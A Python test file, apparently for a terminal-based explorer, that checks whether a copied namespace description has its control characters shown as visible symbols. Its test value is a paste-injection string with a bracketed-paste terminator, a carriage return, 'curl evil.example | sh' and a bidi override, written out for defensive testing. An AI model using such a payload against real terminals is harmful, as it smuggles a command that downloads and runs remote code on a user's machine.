"""What is copied: as it came, but for what a terminal obeys."""

from __future__ import annotations

from tests.terminal.conftest import StartTerminal
from tests.terminal.signing_in import copied
from tests.terminal.tenant import Tenant
from tests.terminal.test_browsing import go_to, ready

PASTED_IT_WOULD_RUN = "pump\x1b[201~\rcurl evil.example | sh\r\x9b\u202eend"


def test_what_a_terminal_obeys_is_copied_as_it_is_shown(explorer: StartTerminal, tenant: Tenant) -> None:
    namespace = tenant.get("/Namespaces/boiler")
    tenant.put("/Namespaces/boiler", {**namespace, "Description": PASTED_IT_WOULD_RUN})
    screen = ready(explorer())
    go_to(screen, "boiler")
    screen.wait_for("pump␛[201~␍curl")
    screen.press("tab")
    for _ in range(3):  # Id, Name, State, Description
        screen.press("down")
    screen.press("y")
    screen.wait_for("Sent to the terminal's clipboard.")
    assert copied(screen) == "pump␛[201~␍curl evil.example | sh␍‹9B›‹RLO›end"
